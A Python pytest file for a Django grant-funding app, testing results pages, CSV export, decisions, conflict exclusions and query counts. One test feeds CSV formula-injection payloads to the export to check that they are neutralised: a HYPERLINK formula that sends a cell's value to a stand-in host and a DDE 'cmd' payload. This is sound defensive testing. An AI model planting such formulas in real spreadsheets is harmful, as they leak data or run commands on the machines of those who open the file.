"""The results pages: staff's (with the CSV export, decisions and deciding the call) and the
chair's in the portal."""

from __future__ import annotations

import csv
import io

import pytest
from auditlog.models import LogEntry
from django.urls import reverse

from coprod.models import Notification, Person
from funding.enums import CallStatus, ConflictCategory, ConflictDecision, PanelRole
from funding.models import ConflictDeclaration, Decision, PanelMember, Proposal
from funding.permissions import sync_proposal_access
from tests.factories.funding import (
    PanelFactory,
    ProposalFactory,
    make_funding_staff,
    scored_review,
    seat,
)
from tests.funding.results_example import build_example
from tests.queries import assert_queries_do_not_grow

pytestmark = pytest.mark.django_db


def test_staff_results_page_shows_the_numbers_and_flags_in_words(client):
    example = build_example()
    client.force_login(make_funding_staff())

    response = client.get(reverse("funding_results:call", kwargs={"call_id": example.call.pk}))

    page = response.content.decode()
    assert response.status_code == 200
    ranked, _, unranked = page.partition("Not ranked: no lived experience review yet")
    assert ranked.index(">1. B<") < ranked.index(">2. A<") < ranked.index(">3. D<")
    assert ">C<" in unranked
    assert "LEE scores differ from the others' by more than 15 points." in page
    assert page.count("Reviewers disagree widely") == 2
    assert "68.9" in page
    assert "£80,000.00 of the £100,000.00 budget" in page
    assert example.proposals["A"].applicant.display_name in page
    assert page.count("Record the decision") == 4
    assert "Decide the call and send the feedback" in page


def test_csv_export_has_the_same_numbers_and_is_audited(client):
    example = build_example()
    staff = make_funding_staff()
    client.force_login(staff)

    response = client.get(reverse("funding_results:csv", kwargs={"call_id": example.call.pk}))

    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
    assert [(row["rank"], row["proposal"]) for row in rows] == [
        ("1", "B"),
        ("2", "A"),
        ("3", "D"),
        ("", "C"),
    ]
    b = rows[0]
    assert (b["mean"], b["median"], b["spread"], b["lee_mean"]) == ("68.9", "86.7", "80.0", "20.0")
    assert (b["lee_flag"], b["disagreement_flag"], b["running_total"]) == ("yes", "yes", "50000.00")
    assert b["applicant"] == example.proposals["B"].applicant.display_name
    entry = LogEntry.objects.get(action=LogEntry.Action.ACCESS)
    assert (entry.actor, entry.object_pk) == (staff, str(example.call.pk))
    assert entry.additional_data["context"] == "results export"


@pytest.mark.parametrize(
    ("title", "name"),
    [
        ('=HYPERLINK("http://x.example/?"&A1,"Open")', "@SUM(1+1)"),
        ("+44 cmd|' /C calc'!A0", "-2+3"),
        (" \t=1+1", "\r=1+1"),
    ],
    ids=["equals-and-at", "plus-and-minus", "after-spaces"],
)
def test_csv_export_quotes_titles_and_names_a_spreadsheet_would_run(client, title, name):
    example = build_example()
    proposal = example.proposals["B"]
    Proposal.objects.filter(pk=proposal.pk).update(title=title)
    Person.objects.filter(pk=proposal.applicant_id).update(chosen_name=name)
    client.force_login(make_funding_staff())

    response = client.get(reverse("funding_results:csv", kwargs={"call_id": example.call.pk}))

    row = next(csv.DictReader(io.StringIO(response.content.decode())))
    assert (row["proposal"], row["applicant"]) == ("'" + title, "'" + name)


def test_staff_do_not_see_the_results_of_their_own_proposal(client):
    example = build_example()
    staff = make_funding_staff()
    Proposal.objects.filter(pk=example.proposals["B"].pk).update(
        applicant=staff.person, title="Staff member's own proposal"
    )
    client.force_login(staff)

    page = client.get(reverse("funding_results:call", kwargs={"call_id": example.call.pk}))
    export = client.get(reverse("funding_results:csv", kwargs={"call_id": example.call.pk}))

    text = page.content.decode()
    assert "own proposal" not in text
    assert ">2. A<" in text
    rows = list(csv.DictReader(io.StringIO(export.content.decode())))
    assert [(row["rank"], row["proposal"], row["running_total"]) for row in rows] == [
        ("2", "A", "80000.00"),
        ("3", "D", "90000.00"),
        ("", "C", ""),
    ]


def test_decision_form_shows_errors_and_saves_nothing(client):
    example = build_example()
    client.force_login(make_funding_staff())
    url = reverse(
        "funding_results:decision",
        kwargs={"call_id": example.call.pk, "proposal_id": example.proposals["B"].pk},
    )

    response = client.post(url, {"outcome": "conditions", "rationale": "Good."})

    page = response.content.decode()
    assert response.status_code == 400
    assert "Say what the conditions are." in page
    assert "say how the lived experience view was weighed" in page
    assert Decision.objects.count() == 0


def test_decision_form_records_the_decision(client):
    example = build_example()
    client.force_login(make_funding_staff())
    url = reverse(
        "funding_results:decision",
        kwargs={"call_id": example.call.pk, "proposal_id": example.proposals["A"].pk},
    )

    response = client.post(url, {"outcome": "no", "rationale": "Weak method.", "feedback": "F"})

    assert response.status_code == 302
    decision = Decision.objects.get()
    assert (decision.proposal, decision.outcome, decision.feedback) == (
        example.proposals["A"],
        "no",
        "F",
    )


def test_a_proposal_of_another_call_is_not_found_under_this_call(client):
    example = build_example()
    other = build_example()
    Proposal.objects.filter(pk=other.proposals["A"].pk).update(title="Another call's proposal")
    client.force_login(make_funding_staff())
    url = reverse(
        "funding_results:decision",
        kwargs={"call_id": example.call.pk, "proposal_id": other.proposals["A"].pk},
    )

    page = client.get(url)
    posted = client.post(url, {"outcome": "no", "rationale": "Weak method."})

    assert (page.status_code, posted.status_code) == (404, 404)
    assert "Another call&#x27;s proposal" not in page.content.decode()
    assert Decision.objects.count() == 0


def test_decide_button_decides_the_call_once(client):
    example = build_example()
    staff = make_funding_staff()
    for name in "ABD":
        # B is flagged for the LEE difference: its decision says how the LEE view was weighed.
        Decision.objects.create(
            proposal=example.proposals[name],
            outcome="no",
            rationale="r",
            lee_view="Weighed." if name == "B" else "",
            decided_by=staff,
        )
    client.force_login(staff)
    url = reverse("funding_results:decide", kwargs={"call_id": example.call.pk})

    client.post(url)
    client.post(url)

    example.call.refresh_from_db()
    assert example.call.status == CallStatus.DECIDED
    assert Notification.objects.filter(kind="funding_decision").count() == 3


def test_chair_sees_results_except_proposals_they_are_kept_out_of(client):
    example = build_example()
    chair = example.policymaker
    ConflictDeclaration.objects.filter(member=chair, proposal=example.proposals["A"]).update(
        conflicted=True,
        category=ConflictCategory.WORK,
        decision=ConflictDecision.EXCLUDED,
    )
    sync_proposal_access([chair])
    client.force_login(chair.person.user)

    response = client.get(
        reverse("funding_chair_results:call", kwargs={"call_id": example.call.pk})
    )

    page = response.content.decode()
    assert response.status_code == 200
    assert ">1. B<" in page
    assert ">2. D<" in page
    assert example.proposals["A"].title + "<" not in page.replace(">C<", "")
    assert example.proposals["A"].applicant.display_name not in page


def _call_with_scores():
    panel = PanelFactory()
    lee = seat(panel, PanelRole.LEE, is_chair=True)
    others = [seat(panel, PanelRole.RESEARCHER), seat(panel, PanelRole.POLICYMAKER)]

    def add_proposal():
        proposal = ProposalFactory(call=panel.call)
        for value, member in zip((2, 4, 5), [lee, *others], strict=True):
            scored_review(member, proposal, value)

    return panel, lee, add_proposal


def test_staff_results_page_queries_do_not_grow_with_proposals_and_scores(client):
    panel, _lee, add_proposal = _call_with_scores()
    client.force_login(make_funding_staff())

    assert_queries_do_not_grow(
        client,
        reverse("funding_results:call", kwargs={"call_id": panel.call_id}),
        add_proposal,
        rows=(1, 30),
    )


def test_csv_export_queries_do_not_grow_with_proposals_and_scores(client):
    panel, _lee, add_proposal = _call_with_scores()
    client.force_login(make_funding_staff())

    assert_queries_do_not_grow(
        client,
        reverse("funding_results:csv", kwargs={"call_id": panel.call_id}),
        add_proposal,
        rows=(1, 30),
    )


def test_decision_page_queries_do_not_grow_with_proposals_and_scores(client):
    panel, _lee, add_proposal = _call_with_scores()
    add_proposal()
    first = panel.call.proposals.get()
    client.force_login(make_funding_staff())

    assert_queries_do_not_grow(
        client,
        reverse(
            "funding_results:decision", kwargs={"call_id": panel.call_id, "proposal_id": first.pk}
        ),
        add_proposal,
        rows=(1, 30),
    )


def test_chair_results_page_queries_do_not_grow_with_proposals_and_scores(client):
    panel, chair, add_proposal = _call_with_scores()
    client.force_login(chair.person.user)

    def add_and_declare():
        add_proposal()
        ConflictDeclaration.objects.bulk_create(
            [
                ConflictDeclaration(member=chair, proposal=proposal, conflicted=False)
                for proposal in panel.call.proposals.exclude(conflict_declarations__member=chair)
            ]
        )

    assert_queries_do_not_grow(
        client,
        reverse("funding_chair_results:call", kwargs={"call_id": panel.call_id}),
        add_and_declare,
        rows=(1, 30),
    )


def test_staff_calls_list_queries_do_not_grow(client):
    client.force_login(make_funding_staff())

    assert_queries_do_not_grow(
        client, reverse("funding_results:calls"), lambda: PanelFactory(), rows=(1, 5)
    )


def test_chair_is_led_to_their_results_from_the_portal_home(client):
    example = build_example()
    client.force_login(example.policymaker.person.user)

    home = client.get(reverse("portal:home")).content.decode()
    listed = client.get(reverse("funding_chair_results:calls")).content.decode()

    assert "See the results of the panel you chair" in home
    assert reverse("funding_chair_results:calls") in home
    assert reverse("funding_chair_results:call", kwargs={"call_id": example.call.pk}) in listed


def test_other_members_are_not_told_of_results(client):
    example = build_example()
    client.force_login(example.lee.person.user)

    home = client.get(reverse("portal:home")).content.decode()

    assert "See the results" not in home


def test_once_the_call_is_decided_decisions_are_no_longer_offered(client):
    example = build_example()
    staff = make_funding_staff()
    for name in "ABD":
        Decision.objects.create(
            proposal=example.proposals[name],
            outcome="no",
            rationale="r",
            lee_view="Weighed." if name == "B" else "",
        )
    client.force_login(staff)
    client.post(reverse("funding_results:decide", kwargs={"call_id": example.call.pk}))

    page = client.get(
        reverse("funding_results:call", kwargs={"call_id": example.call.pk})
    ).content.decode()

    assert "The call is decided." in page
    assert "Record the decision" not in page
    assert "Change the decision" not in page
    assert "Decide the call and send the feedback" not in page


def test_chair_calls_list_queries_do_not_grow(client):
    chair = seat(PanelFactory(), PanelRole.POLICYMAKER, is_chair=True)
    client.force_login(chair.person.user)

    def chair_another_panel():
        PanelMember.objects.create(
            panel=PanelFactory(), person=chair.person, role=PanelRole.POLICYMAKER, is_chair=True
        )

    assert_queries_do_not_grow(
        client, reverse("funding_chair_results:calls"), chair_another_panel, rows=(1, 5)
    )


def test_chair_of_another_panel_does_not_see_this_calls_results(client):
    example = build_example()
    other_chair = seat(PanelFactory(), PanelRole.POLICYMAKER, is_chair=True)
    PanelMember.objects.create(
        panel=example.call.panel, person=other_chair.person, role=PanelRole.POLICYMAKER
    )
    client.force_login(other_chair.person.user)

    response = client.get(
        reverse("funding_chair_results:call", kwargs={"call_id": example.call.pk})
    )

    assert response.status_code == 404
    assert b"Results:" not in response.content
